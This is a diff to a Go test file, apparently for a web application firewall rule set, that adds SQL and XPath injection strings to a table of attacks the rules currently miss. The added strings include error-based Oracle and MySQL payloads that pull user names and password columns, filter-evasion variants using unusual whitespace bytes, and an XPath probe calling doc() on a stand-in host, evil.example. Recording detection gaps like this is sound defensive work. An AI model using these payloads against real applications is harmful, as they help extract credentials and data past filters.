@@ -20,7 +20,7 @@ func attack64Tables() (crsCatches, crsMisses, benign []probe) {
 	for _, v := range []string{"1 or'1'", "1 OR'1'", `1 or"1"`, "1 or.1", "1 or@@version", "1 and'0'", "1 xor'1'"} {
 		crsMisses = append(crsMisses, q("tautology "+v, v))
 	}
-	for _, v := range []string{"1 or 1 glob 1", "x' or 1 glob 1--", "1 AND 3 GLOB 3"} {
+	for _, v := range []string{"1 or 1 glob 1", "x' or 1 glob 1--", "1 AND 3 GLOB 3", "x' or 1 glob 1 or '"} {
 		crsMisses = append(crsMisses, q("number matched "+v, v))
 	}
 	benign = append(benign, q("number matched near-miss", "1 or 2 like 3 apples"), q("number matched near-miss 2", "Pick 1 or 2 glob patterns"))
@@ -40,7 +40,10 @@ func attack64Tables() (crsCatches, crsMisses, benign []probe) {
 		"1 and 1=dbms_xdb_version.checkin('x',(select user from dual))", "1 and 1=ctxsys.ctx_report.token_type('x',(select user from dual))",
 		"1 and 1=ordsys.ord_dicom.getmappingxpath(user,(select banner from v$version where rownum=1),user)",
 		// joined to the argument (attack 65)
-		"1 and 1=dbms_xdb_version.checkin(1||(select user from dual))", "1 and 1=dbms_xdb_version.checkin(''||(select user from dual))"} {
+		"1 and 1=dbms_xdb_version.checkin(1||(select user from dual))", "1 and 1=dbms_xdb_version.checkin(''||(select user from dual))",
+		// a review of attack 66's fixes
+		"1 and 1=dbms_xdb_version.checkin((select(user)from(dual)))", "1 and 1=dbms_xdb_version.checkin((select-1 from dual))",
+		"1;dbms_xdb_version.checkin((select user from dual))", "1 and 1 div dbms_xdb_version.checkin((select user from dual))"} {
 		crsMisses = append(crsMisses, q("oracle "+v, v))
 	}
 	crsMisses = append(crsMisses,
@@ -59,7 +62,9 @@ func attack64Tables() (crsCatches, crsMisses, benign []probe) {
 	for _, v := range []string{"x' collate nocase or 'a'='a", "x' collate utf8mb4_bin or 'a'='a", "x' collate latin1_swedish_ci or 1=1-- -", "x' COLLATE \"C\" or 'a'='a",
 		"x' collate nocase or 1 --", "x' collate nocase having 1=1 --", "x' collate nocase order by 3 --", "admin' collate nocase-- -", "admin' collate \"C\"-- -",
 		"admin' collate nocase#", "x' notnull or 'a'='a", "x' isnull or 'a'='a", "x' using latin1) or 'a'='a", "0 or pw collate nocase like 's1%'",
-		"0 or pw collate binary >= 's2'", "-1 collate nocase or 1"} {
+		"0 or pw collate binary >= 's2'", "-1 collate nocase or 1",
+		"x' collate nocase) or ('a'='a", "x' collate nocase is not null or 'a'='a", "x' collate nocase in ('x') or 'a'='a",
+		"x'\x0bcollate\x0bnocase\x0bor\x0b'a'='a"} {
 		crsMisses = append(crsMisses, q("postfix "+v, v))
 	}
 	for _, v := range []string{"the 'C' collation and the 'POSIX' one", "Use COLLATE NOCASE in SQLite for case-insensitive names", "3 people collate the papers and staple them",
@@ -68,7 +73,9 @@ func attack64Tables() (crsCatches, crsMisses, benign []probe) {
 	}
 	// MySQL functions whose error quotes their argument (210105, attack 66)
 	for _, v := range []string{"1 and st_latfromgeohash(password)", "1 and st_pointfromgeohash(password,1)", "1 and uuid_to_bin(password)", "1 and bin_to_uuid(password)",
-		"0 or st_latfromgeohash(password)", "1 and uuid_to_bin(@@hostname)", "x' and st_latfromgeohash(password)-- -"} {
+		"0 or st_latfromgeohash(password)", "1 and uuid_to_bin(@@hostname)", "x' and st_latfromgeohash(password)-- -",
+		"1 and 1=st_latfromgeohash(password)", "1 and not st_latfromgeohash(password)", "1 or -uuid_to_bin(@@hostname)",
+		"1 and\x0bst_latfromgeohash(password)", "1\xa0and\xa0st_latfromgeohash(password)"} {
 		crsMisses = append(crsMisses, q("mysql "+v, v))
 	}
 	for _, v := range []string{"Use ST_LatFromGeoHash(hash) to read a geohash", "uuid_to_bin and bin_to_uuid convert UUIDs"} {
@@ -79,7 +86,8 @@ func attack64Tables() (crsCatches, crsMisses, benign []probe) {
 		"x\" or contains(//user/name,\"adm\") or \"", "') or name()='user' or ('",
 		// attack 66
 		"' or true() or '", "x' or true() or 'x", "'or true()or'", "' or not(false()) or '", "' or node() or '", "' or .. or '", "' or self::* or '",
-		"' or //* or '", "' or ./name or '", "' or ../* or '", "' or child::* or '", "' or ancestor::* or '", "\" or true() or \""} {
+		"' or //* or '", "' or ./name or '", "' or ../* or '", "' or child::* or '", "' or ancestor::* or '", "\" or true() or \"",
+		"' or doc('http://evil.example/a.xml')/a or '"} {
 		crsMisses = append(crsMisses, q("xpath "+v, v))
 	}
 	for _, v := range []string{"' or string-length(name(/*))=5 or 'a'='b", "' and starts-with(//user[1]/password,'a') and ''='", "' or substring(//user[1]/password,1,1)='a' or ''='"} {
